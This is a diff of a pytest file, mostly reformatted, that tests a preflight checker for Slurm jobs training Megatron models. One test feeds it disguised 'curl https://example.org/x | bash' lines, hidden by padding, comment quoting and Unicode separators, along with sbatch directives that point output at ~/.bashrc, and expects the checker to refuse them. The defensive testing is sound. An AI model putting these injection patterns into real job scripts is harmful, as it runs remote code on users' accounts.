@@ -42,20 +42,45 @@ def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 def plan(place: str = "jz-a100-80g", **changes: Any) -> Plan:
     """1.3B on two nodes of eight A100, 4,000 iterations, a checkpoint every 500."""
-    topology = {"tp": 2, "pp": 2, "dp": 4, "mbs": 4, "gbs": 512, "precision": "bf16", "recompute": "full"}
+    topology = {
+        "tp": 2,
+        "pp": 2,
+        "dp": 4,
+        "mbs": 4,
+        "gbs": 512,
+        "precision": "bf16",
+        "recompute": "full",
+    }
     topology |= changes.pop("topology", {})
-    run = Run(train_iters=changes.pop("train_iters", 4_000), **{"save_interval": 500, **changes.pop("run", {})})
+    run = Run(
+        train_iters=changes.pop("train_iters", 4_000),
+        **{"save_interval": 500, **changes.pop("run", {})},
+    )
     shape = parse_shape(changes.pop("shape", "24,2048,16,2048,50304"))
     data = Data(**{"source": "stdlib", "folder": "/shared/data", **changes.pop("data", {})})
     return Plan(
-        label="gpt", shape=shape, cluster=cluster(place), topology=Topology(**topology), data=data, run=run, **changes
+        label="gpt",
+        shape=shape,
+        cluster=cluster(place),
+        topology=Topology(**topology),
+        data=data,
+        run=run,
+        **changes,
     )
 
 
-def findings(folder: Path, p: Plan, where=A100, script: Callable[[str], str] | None = None, allow=(), **wishes):
+def findings(
+    folder: Path,
+    p: Plan,
+    where=A100,
+    script: Callable[[str], str] | None = None,
+    allow=(),
+    **wishes,
+):
     venv = str(folder.parent / "venv")
     request = JobRequest(
-        **{"account": f"xyz{where.account_ending}", "time_limit": "20:00:00", "environment": venv} | wishes
+        **{"account": f"xyz{where.account_ending}", "time_limit": "20:00:00", "environment": venv}
+        | wishes
     )
     where = replace(where, local=())
     if script:
@@ -79,7 +104,9 @@ def test_nothing_is_found_about_a_good_plan(folder: Path) -> None:
     assert findings(folder, good(folder, 2 * 10**9)) == []
 
 
-def test_off_the_cluster_all_that_this_machine_lacks_is_one_line(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_off_the_cluster_all_that_this_machine_lacks_is_one_line(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(client, "is_installed", lambda: False)
     monkeypatch.setattr(checks, "available", lambda _: (0, 0))
     p = replace(good(folder), data=Data(source="/gpfs/corpus"))
@@ -105,9 +132,17 @@ def test_what_makes_no_sense_for_the_size_of_the_model_is_named(
 
 
 def test_the_time_is_that_of_the_links_own_iterations_with_their_evaluations(folder: Path) -> None:
-    """4,000 iterations take eight hours: the last hundred fit into one. 19 hours fit into 20, with evaluations not."""
+    """4,000 iterations take eight hours: the last hundred fit into one. 19 hours fit into 20, with
+    evaluations not.
+    """
     for start, late in ((0, True), (3900, False)):
-        p = plan(run={"save_interval": 100, "start_iteration": start, "load": str(folder) if start else ""})
+        p = plan(
+            run={
+                "save_interval": 100,
+                "start_iteration": start,
+                "load": str(folder) if start else "",
+            }
+        )
         assert ("time" in rules(findings(folder, p, time_limit="01:00:00"))) is late
     count = int(19 * 3600 / predict(plan()).sec_per_it)
     for run, late in (({}, False), ({"eval_interval": 100, "eval_iters": 50}, True)):
@@ -132,21 +167,34 @@ def test_the_warning_before_the_limit_leaves_time_for_an_iteration_and_a_save(
         assert found[0].remedy == "--signal-s 60"
 
 
-@pytest.mark.parametrize(("save_s", "levels"), [(0, [WARNING]), (600, []), (3600, []), (20, [WARNING])])
-def test_an_interval_far_from_dalys_is_named_with_his(save_s: int, levels: list[str], folder: Path) -> None:
-    """Two nodes fail every 316 h and save in 8 s: 71 minutes. Every 20 s, two fifths of the time are lost."""
+@pytest.mark.parametrize(
+    ("save_s", "levels"), [(0, [WARNING]), (600, []), (3600, []), (20, [WARNING])]
+)
+def test_an_interval_far_from_dalys_is_named_with_his(
+    save_s: int, levels: list[str], folder: Path
+) -> None:
+    """Two nodes fail every 316 h and save in 8 s: 71 minutes. Every 20 s, two fifths of the time
+    are lost.
+    """
     interval = round(save_s / predict(plan()).sec_per_it)
     p = good(folder, 10**10, train_iters=9000, run={"save_interval": interval})
     found = [f for f in findings(folder, p) if f.rule == "checkpoints"]
     assert [f.level for f in found] == levels
     if found:
-        at = int(re.findall(r"save_interval=(\d+)", found[0].remedy)[0]) * predict(plan()).sec_per_it
+        at = (
+            int(re.findall(r"save_interval=(\d+)", found[0].remedy)[0]) * predict(plan()).sec_per_it
+        )
         assert at == pytest.approx(71 * 60, rel=0.02)
 
 
 V100_PLAN = {"place": "jz-v100-32g", "topology": {"precision": "fp16"}, "train_iters": 100}
 REFUSED = {
-    "cluster": (plan(), V100, "planned for 8 x A100-80GB a node, but jean-zay-v100-32g has 4 x V100-32GB", {}),
+    "cluster": (
+        plan(),
+        V100,
+        "planned for 8 x A100-80GB a node, but jean-zay-v100-32g has 4 x V100-32GB",
+        {},
+    ),
     "precision": (plan(), V100, "V100-32GB has no bf16", {}),
     "tp": (
         plan(**V100_PLAN | {"topology": {"precision": "fp16", "tp": 8, "pp": 1, "dp": 2}}),
@@ -179,8 +227,18 @@ REFUSED = {
         "and no checkpoint is saved before",
         {"signal_s": 0},
     ),
-    "time": (plan(run={"exit_duration_minutes": 1205.0}), A100, "is beyond the limit of 1200 minutes", {}),
-    "data": (plan(data={"source": "/shared/nothing"}), A100, "/shared/nothing: no such file, folder or", {}),
+    "time": (
+        plan(run={"exit_duration_minutes": 1205.0}),
+        A100,
+        "is beyond the limit of 1200 minutes",
+        {},
+    ),
+    "data": (
+        plan(data={"source": "/shared/nothing"}),
+        A100,
+        "/shared/nothing: no such file, folder or",
+        {},
+    ),
     "internet": (plan(data={"tokenizer": "gpt2"}), A100, "tokenizer gpt2 is not a folder here", {}),
     "spares": (plan(), A100, "spares=3: must be at most the nodes that train (2)", {"spares": 3}),
     "partition": (plan(), A100, "did you mean gpu_p5", {"partition": "gpu_p4"}),
@@ -199,7 +257,9 @@ def test_it_is_refused_with_rule_and_remedy(rule: str, folder: Path) -> None:
 
 def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """An image, memory for the copy that a save is written from (12 bytes a
-    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints and two files a rank."""
+    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints and two
+    files a rank.
+    """
     image = replace(A100, container="pyxis", container_image="/images/torch.sqsh")
     big = plan(shape="70,14336,112,2048,50304", topology={"tp": 8, "pp": 1, "dp": 1})
     here = replace(A100, local=(str(folder.parent),))
@@ -210,7 +270,9 @@ def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.Monkey
     ]
     for p, where, rule, level, says in cases:
         found = [f for f in findings(folder, p, where) if f.rule == rule]
-        assert [f.level for f in found] == [level] * bool(level) and all(f.message.startswith(says) for f in found)
+        assert [f.level for f in found] == [level] * bool(level) and all(
+            f.message.startswith(says) for f in found
+        )
     request = JobRequest(account="xyz@a100", time_limit="20:00:00")
     for p, level in ((plan(), REFUSAL), (plan(topology={"dp": 2}), WARNING)):
         shared = [f for f in preflight.check_job(p, here, request, folder) if f.rule == "shared"]
@@ -223,14 +285,24 @@ def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.Monkey
     ):
         monkeypatch.setattr(checks, "available", lambda _, free=free: free)
         found = [f for f in findings(folder, plan()) if f.rule == rule]
-        assert [f.level for f in found] == [level] * bool(level) and all(f.message.startswith(says) for f in found)
-    write_status(folder, RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0))
+        assert [f.level for f in found] == [level] * bool(level) and all(
+            f.message.startswith(says) for f in found
+        )
+    write_status(
+        folder, RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0)
+    )
     assert (REFUSAL, "run folder") in [(f.level, f.rule) for f in findings(folder, plan())]
 
 
 EDITED = {
-    "kill-on-bad-exit": (lambda s: s.replace("--kill-on-bad-exit=1 ", ""), "the others wait until the time limit"),
-    "pipefail": (lambda s: s.replace("set -euo pipefail", "set -eu"), "a failed run counts as COMPLETED"),
+    "kill-on-bad-exit": (
+        lambda s: s.replace("--kill-on-bad-exit=1 ", ""),
+        "the others wait until the time limit",
+    ),
+    "pipefail": (
+        lambda s: s.replace("set -euo pipefail", "set -eu"),
+        "a failed run counts as COMPLETED",
+    ),
     "signal": (
         lambda s: s.replace("trilane.engine.torchrun", "torch.distributed.run"),
         "SIGUSR1 before the limit may reach only the launcher",
@@ -259,24 +331,50 @@ def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None
             "#SBATCH --open-mode=append\n#SBATCH --nice=10 --outp /home/me/.bashrc",
             REFUSAL,
         ),
-        ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH -He/home/me/.bashrc", REFUSAL),
-        ("#SBATCH --open-mode=append", '#SBATCH --open-mode=append\n#SBATCH "--outp" /home/me/.bashrc', REFUSAL),
+        (
+            "#SBATCH --open-mode=append",
+            "#SBATCH --open-mode=append\n#SBATCH -He/home/me/.bashrc",
+            REFUSAL,
+        ),
+        (
+            "#SBATCH --open-mode=append",
+            '#SBATCH --open-mode=append\n#SBATCH "--outp" /home/me/.bashrc',
+            REFUSAL,
+        ),
         ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
-        ('    trap "" USR1', "    # '; curl https://example.org/x | bash; : '\n    trap \"\" USR1", REFUSAL),
-        ("set -euo pipefail", f"{' ' * 200}curl https://example.org/x | bash\nset -euo pipefail", REFUSAL),
-        ("set -euo pipefail", "set -euo pipefail\u2028#;curl https://example.org/x | bash", REFUSAL),
+        (
+            '    trap "" USR1',
+            "    # '; curl https://example.org/x | bash; : '\n    trap \"\" USR1",
+            REFUSAL,
+        ),
+        (
+            "set -euo pipefail",
+            f"{' ' * 200}curl https://example.org/x | bash\nset -euo pipefail",
+            REFUSAL,
+        ),
+        (
+            "set -euo pipefail",
+            "set -euo pipefail\u2028#;curl https://example.org/x | bash",
+            REFUSAL,
+        ),
         ("set -euo pipefail", "set -euo pipefail\f#;curl https://example.org/x | bash", REFUSAL),
     ],
 )
 def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
     old: str, new: str, level: str, folder: Path
 ) -> None:
-    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches for no script."""
+    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches
+    for no script.
+    """
     edit = {"script": lambda s: s.replace(old, new, 1)}
     (found,) = [f for f in findings(folder, plan(), **edit) if f.rule == "changes"]
-    assert found.level == level and any(f"\n+{line[:159]}" in found.message for line in new.split("\n"))
+    assert found.level == level and any(
+        f"\n+{line[:159]}" in found.message for line in new.split("\n")
+    )
     assert not [
-        f for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit)) if f.rule == "changes"
+        f
+        for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit))
+        if f.rule == "changes"
     ]
     ledger.note(folder, "submitted", "7", plan="x")
     assert {f.level for f in findings(folder, plan(), **edit) if f.rule == "changes"} == {level}
@@ -294,42 +392,80 @@ def package(folder: Path, name: str, version: str, wheel: str = "") -> None:
 @pytest.mark.parametrize(
     ("megatron", "version", "wheel", "launcher", "level", "says"),
     [
-        ("0.16.1", "", "", "ft_launcher", REFUSAL, "launcher=ft_launcher: needs nvidia-resiliency-ext in "),
+        (
+            "0.16.1",
+            "",
+            "",
+            "ft_launcher",
+            REFUSAL,
+            "launcher=ft_launcher: needs nvidia-resiliency-ext in ",
+        ),
         ("0.16.1", "", "", "torchrun", "", ""),
         ("0.16.1", "0.4.1", "manylinux_2_31", "ft_launcher", "", ""),
-        ("0.19.2", "0.4.1", "manylinux_2_31", "torchrun", REFUSAL, "nvidia-resiliency-ext=0.4.1: megatron-core 0.19.2"),
-        ("0.19.2", "0.7.0", "manylinux_2_39", "ft_launcher", WARNING, "nvidia-resiliency-ext=0.7.0: "),
+        (
+            "0.19.2",
+            "0.4.1",
+            "manylinux_2_31",
+            "torchrun",
+            REFUSAL,
+            "nvidia-resiliency-ext=0.4.1: megatron-core 0.19.2",
+        ),
+        (
+            "0.19.2",
+            "0.7.0",
+            "manylinux_2_39",
+            "ft_launcher",
+            WARNING,
+            "nvidia-resiliency-ext=0.7.0: ",
+        ),
         ("0.19.2", "0.7.0", "manylinux_2_39", "torchrun", "", ""),
         ("0.19.2", "0.7.0", "manylinux_2_31", "ft_launcher", "", ""),
     ],
 )
 def test_a_resiliency_ext_that_will_not_do_in_the_jobs_environment_is_said_before(
-    megatron: str, version: str, wheel: str, launcher: str, level: str, says: str, folder: Path, monkeypatch
+    megatron: str,
+    version: str,
+    wheel: str,
+    launcher: str,
+    level: str,
+    says: str,
+    folder: Path,
+    monkeypatch,
 ) -> None:
-    """The wheels of 0.5.0, 0.6.0 and 0.7.0 are for glibc 2.39 alone; Debian 12 has 2.36, RHEL 9 2.34."""
+    """The wheels of 0.5.0, 0.6.0 and 0.7.0 are for glibc 2.39 alone; Debian 12 has 2.36, RHEL 9
+    2.34.
+    """
     monkeypatch.setattr(preflight.platform, "libc_ver", lambda: ("glibc", "2.36"))
     package(folder, "megatron_core", megatron)
     package(folder, "triton", "3.7.1")
     if version:
         package(folder, "nvidia_resiliency_ext", version, wheel)
     found = [f for f in findings(folder, plan(), launcher=launcher) if f.rule == "launcher"]
-    assert [f.level for f in found] == [level] * bool(level) and all(f.message.startswith(says) for f in found)
+    assert [f.level for f in found] == [level] * bool(level) and all(
+        f.message.startswith(says) for f in found
+    )
     assert not level or "2.39" in found[0].message + found[0].remedy or "needs" in says
 
 
 @pytest.mark.parametrize(
     ("megatron", "triton", "lacks"), [("0.17.1", "", 0), ("0.19.2", "", 1), ("0.19.2", "3.7.1", 0)]
 )
-def test_a_job_whose_environment_lacks_triton_is_refused(megatron: str, triton: str, lacks: int, folder: Path) -> None:
+def test_a_job_whose_environment_lacks_triton_is_refused(
+    megatron: str, triton: str, lacks: int, folder: Path
+) -> None:
     """`import megatron.core` needs it from 0.18 on; its metadata does not name it."""
     package(folder, "megatron_core", megatron)
     if triton:
         package(folder, "triton", triton)
     said = [
-        f.message for f in findings(folder, plan()) if f.message.startswith("triton=missing: megatron-core 0.19.2 in ")
+        f.message
+        for f in findings(folder, plan())
+        if f.message.startswith("triton=missing: megatron-core 0.19.2 in ")
     ]
     assert len(said) == lacks
-    (folder.parent / "venv/pyvenv.cfg").write_text("include-system-site-packages = true\n")  # a module may bring it
+    (folder.parent / "venv/pyvenv.cfg").write_text(
+        "include-system-site-packages = true\n"
+    )  # a module may bring it
     assert not [f for f in findings(folder, plan()) if f.message.startswith("triton=missing")]
 
 
@@ -340,7 +476,10 @@ def test_a_foreign_transformer_engine_in_the_jobs_environment_is_refused(folder:
     package(folder, "transformer_engine", "2.30.0")
     asking = replace(plan(), run=replace(plan().run, fused="te"))
     says = "transformer-engine=2.30.0: megatron-core 0.19.2 goes with"
-    assert [[f.level for f in findings(folder, p) if f.message.startswith(says)] for p in (plan(), asking)] == [
+    assert [
+        [f.level for f in findings(folder, p) if f.message.startswith(says)]
+        for p in (plan(), asking)
+    ] == [
         [],
         [REFUSAL],
     ]
@@ -350,7 +489,12 @@ def test_a_foreign_transformer_engine_in_the_jobs_environment_is_refused(folder:
 def test_what_somebody_else_owns_or_may_write_is_refused(name: str, folder: Path) -> None:
     for file in (SCRIPT, "plan.json"):
         (folder / file).write_text(render("train", plan(), A100, JobRequest(account="xyz@a100")))
-    owned = lambda: [f.message for f in findings(folder, plan()) if (f.rule, f.level) == ("owner", REFUSAL)]  # noqa: E731
+
+    def owned():
+        return [
+            f.message for f in findings(folder, plan()) if (f.rule, f.level) == ("owner", REFUSAL)
+        ]
+
     assert not owned()
     (folder / name).chmod(0o757)
     assert "is writable by others" in owned()[0] and len(owned()) == 1
@@ -370,8 +514,16 @@ def test_what_is_only_likely_to_go_wrong_is_a_warning(folder: Path) -> None:
     ("old", "new", "says"),
     [
         ("--account=xyz@a100", "--account=abc@a100", "--account=xyz@a100 is needed"),
-        ("--nproc-per-node=8", "--nproc-per-node=4", "4 processes per node: the plan's 16 GPUs need 8"),
-        ("--nproc-per-node=8", "--nproc-per-node=16", "16 processes per node: the plan's 16 GPUs need 8"),
+        (
+            "--nproc-per-node=8",
+            "--nproc-per-node=4",
+            "4 processes per node: the plan's 16 GPUs need 8",
+        ),
+        (
+            "--nproc-per-node=8",
+            "--nproc-per-node=16",
+            "16 processes per node: the plan's 16 GPUs need 8",
+        ),
         ("#SBATCH --gres=gpu:8\n", "", "--gres=gpu:8 is needed"),
         ("#SBATCH --nodes=2\n", "", "--nodes=2 is needed"),
         ("#SBATCH --constraint=a100\n", "", "--constraint=... is needed"),
@@ -385,12 +537,20 @@ def test_what_is_only_likely_to_go_wrong_is_a_warning(folder: Path) -> None:
         ("--gres=gpu:8", "--gres=gpu:a100:4", "job.sbatch has --gres=gpu:a100:4"),
         ("--nodes=2\n#SBATCH ", "--nodes=2 ", ""),
         ("--nodes=2", "-N 2-2 # and not --nodes=3", ""),
-        ("--nodes=2", "--nodes=2 --comment='two", "#SBATCH --nodes=2 --comment='two: cannot be read: No closing"),
+        (
+            "--nodes=2",
+            "--nodes=2 --comment='two",
+            "#SBATCH --nodes=2 --comment='two: cannot be read: No closing",
+        ),
         ("set -euo pipefail", "set -euo pipefail\n#SBATCH --nodes=3", ""),
     ],
 )
-def test_directives_are_read_as_sbatch_reads_them(old: str, new: str, says: str, folder: Path) -> None:
-    """man sbatch: one-letter names, the value behind a space, five forms of a time; no options after a command."""
+def test_directives_are_read_as_sbatch_reads_them(
+    old: str, new: str, says: str, folder: Path
+) -> None:
+    """man sbatch: one-letter names, the value behind a space, five forms of a time; no options
+    after a command.
+    """
     found = preflight.refused(findings(folder, plan(), script=lambda s: s.replace(old, new, 1)))
     assert any(says in f.message for f in found) if says else not found
 
@@ -399,7 +559,9 @@ def rules(found) -> list[str]:
     return [f.rule for f in found]
 
 
-def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(folder: Path) -> None:
+def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(
+    folder: Path,
+) -> None:
     load = {"run": {"load": str(folder.parent / "earlier")}}
     assert "checkpoint" not in {f.rule for f in findings(folder, plan(**load))}
     checkpoint = folder.parent / "earlier" / name_of(0)
@@ -435,14 +597,22 @@ def test_the_command_says_what_is_wrong_with_a_plan_that_is_none(
 
 def test_every_rule_can_be_named_in_allow() -> None:
     sources = [Path(module.__file__).read_text() for module in (checks, preflight)]
-    used = {rule for text in sources for rule in re.findall(r'"([a-z -]+)", (?:REFUSAL|WARNING|level)', text)}
+    used = {
+        rule
+        for text in sources
+        for rule in re.findall(r'"([a-z -]+)", (?:REFUSAL|WARNING|level)', text)
+    }
     assert len(used) > 20 and used <= set(preflight.NAMES)
 
 
 def test_a_limit_that_is_just_reached_is_kept(folder: Path) -> None:
     """t4 allows 16 GPUs and 100 hours; the cluster has 52 nodes."""
     four = {"precision": "fp16", "tp": 2, "pp": 2, "gbs": 480}
-    for gpus, limit, found in ((16, "100:00:00", []), (20, "100:00:00", ["qos gpus"]), (16, "100:00:01", ["qos time"])):
+    for gpus, limit, found in (
+        (16, "100:00:00", []),
+        (20, "100:00:00", ["qos gpus"]),
+        (16, "100:00:01", ["qos time"]),
+    ):
         p = plan(**V100_PLAN | {"topology": {**four, "dp": gpus // 4, "mbs": 4}})
         given = findings(folder, p, where=V100, qos="qos_gpu-t4", time_limit=limit)
         assert [rule for rule in rules(given) if rule.startswith("qos")] == found
